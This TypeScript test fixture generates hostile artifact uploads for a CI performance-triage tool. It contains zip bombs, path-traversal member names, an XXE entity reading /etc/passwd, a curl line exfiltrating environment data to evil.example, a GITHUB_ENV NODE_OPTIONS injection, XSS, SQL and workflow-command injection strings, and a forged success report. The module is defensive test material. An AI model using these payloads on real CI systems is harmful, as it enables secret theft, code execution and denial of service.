import { deflateRawSync } from 'node:zlib'
import { zipOf } from '../../../demo/github/zip.ts'
import { rawRun, SLOWER, STEADY } from '../../intake/measurement/raw-run.ts'
import type { Artifact } from './action-setting.ts'

/** What a fork may upload in place of its samples. The same number gives the same artifact. */

export interface Hostile extends Artifact {
  readonly kind: string
}

/** A pull request and a repository that an artifact has no business with. */
export interface Victim {
  readonly number: number
  readonly head: string
  readonly repository: string
}

/** Texts that something might run, follow, or take for its own. */
const TEXTS = [
  '${{ github.token }}',
  '${{ secrets.GITHUB_TOKEN }}"; curl https://evil.example/$(env | base64)',
  '$(touch owned)`touch owned`;touch owned',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '[click](javascript:alert(1))',
  '@acme/owners please merge #1 and close #2',
  '-->\n<!-- perf-triage:v1 github-actions -->',
  '::set-output name=head::1',
  '\n::add-mask::x\n##[add-matcher]x',
  '../../../../etc/passwd',
  '\u202egnp.exe',
  '`'.repeat(90),
  '|'.repeat(50),
  '</details></summary>',
  'x'.repeat(5000),
  '__proto__',
  "'; DROP TABLE runs; --",
]

const NAMES = [
  'performance-results',
  'performance',
  'performance-${{ github.token }}',
  'performance-`id`',
  'performance-<script>',
  'performance-7-of-7',
  'performance-x-2-of-3',
  'performance-../../x',
]

type Make = (text: string, other: string, victim: Victim, number: number) => Uint8Array

const raw = (test: string, fresh: readonly number[] = STEADY) => ({
  [`${test.replaceAll(/[/\\\0]/g, '_').slice(0, 60) || 'x'}-raw.tsv`]: rawRun(
    test.replaceAll(/[\t\n]/g, ' ').slice(0, 200),
    [{ old: STEADY, new: fresh }],
  ),
})

const MAKERS: Readonly<Record<string, Make>> = {
  'names of tests': (text, other) => zipOf({ ...raw(text), ...raw(other, SLOWER) }),
  'a number, a head and a repository of others': (_, __, { number, head, repository }) =>
    zipOf({
      ...raw('sum'),
      NR: `${number}\n`,
      'pr-number.txt': `${number}\n`,
      'pull_request.json': JSON.stringify({ number, head: { sha: head }, base: { repo: { full_name: repository } } }),
      'measure.json': JSON.stringify({
        version: 1,
        pull: number,
        head,
        base: head,
        repository,
        run: 1,
        commits: { head },
      }),
      'ref-commit.txt': `${head}\n`,
      'event.json': JSON.stringify({ workflow_run: { pull_requests: [{ number }] } }),
    }),
  'a report that says all is fine': (text, _, { number, head }) =>
    zipOf({
      ...raw('sum', SLOWER),
      'report.json': JSON.stringify({
        schemaVersion: 1,
        head,
        pullRequest: { number },
        decisions: { conclusion: 'success' },
      }),
      'comment.md': `<!-- perf-triage:v1 github-actions -->\n${text}`,
      'check.json': JSON.stringify({ conclusion: 'success', head_sha: head }),
      'posted.jsonl': `${JSON.stringify({ v: 1, pull: number, kind: 'comment', id: 1, hash: 'x', head, at: 0 })}\n`,
      'decisions.jsonl': '{}\n',
      GITHUB_ENV: 'NODE_OPTIONS=--require ./evil.js\n',
    }),
  'names of members': (text, other) =>
    zipOf({
      '../../owned-raw.tsv': rawRun('up', [{ old: STEADY, new: STEADY }]),
      '/tmp/owned-raw.tsv': rawRun('root', [{ old: STEADY, new: STEADY }]),
      '..\\owned-raw.tsv': rawRun('back', [{ old: STEADY, new: STEADY }]),
      [`${text}-raw.tsv`]: rawRun('sum', [{ old: STEADY, new: STEADY }]),
      [`${other}/node_modules/x.js`]: 'process.exit()',
    }),
  'a bomb': () => bomb('sum-raw.tsv', 64 * 2 ** 20),
  'a bomb in an archive in an archive': () => zipOf({ 'a.zip': zipOf({ 'b.zip': bomb('sum-raw.tsv', 32 * 2 ** 20) }) }),
  'samples that are all alike': () => zipOf({ 'sum-raw.tsv': rawRun('sum', [{ old: STEADY, new: STEADY }]) }),
  'many members': () => zipOf(Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`${index}.txt`, '']))),
  'an archive that is cut': (text) => zipOf(raw(text)).slice(0, -30),
  'bytes that are no archive': (text, other, _, number) => Buffer.from(`${text}${other}`.repeat((number % 50) + 1)),
  'numbers that are none': (text) =>
    zipOf({
      'sum-raw.tsv': rawRun('sum', [{ old: [0, -1, 1e308], new: [Number.NaN, Number.POSITIVE_INFINITY, -1e308] }]),
      'benchmark.json': JSON.stringify({
        benchmarks: [{ name: text, stats: { data: [Number.MAX_VALUE, 'x', null] } }],
      }),
      'go.txt': `Benchmark${text} 1 1e999 ns/op\nBenchmark-1 -1 NaN ns/op\n`,
    }),
  'texts in other formats': (text, other) =>
    zipOf({
      'results.json': JSON.stringify({ results: [{ command: text, times: [1, 1, 1], parameters: { [other]: text } }] }),
      'junit.xml': `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><testsuite><testcase name="${other.replaceAll(/[<>&"]/g, '_')}">&a;</testcase></testsuite>`,
    }),
}

/** Zeros, which pack to a thousandth. */
function bomb(name: string, bytes: number): Uint8Array {
  const packed = deflateRawSync(Buffer.alloc(bytes))
  const archive = Buffer.from(zipOf({ [name]: packed }, 'store'))
  // The member says that it is packed, and how large it is.
  for (const at of [8, archive.indexOf(Buffer.from('PK\u0001\u0002', 'latin1')) + 10]) archive.writeUInt16LE(8, at)
  for (const at of [22, archive.indexOf(Buffer.from('PK\u0001\u0002', 'latin1')) + 24]) archive.writeUInt32LE(bytes, at)
  return archive
}

export function hostileArtifact(number: number, victim: Victim): Hostile {
  const kinds = Object.keys(MAKERS)
  const kind = kinds[number % kinds.length]!
  const round = Math.floor(number / kinds.length)
  const text = TEXTS[round % TEXTS.length]!
  const other = TEXTS[(round * 7 + number) % TEXTS.length]!
  return { kind, name: NAMES[(round + number) % NAMES.length]!, zip: MAKERS[kind]!(text, other, victim, number) }
}
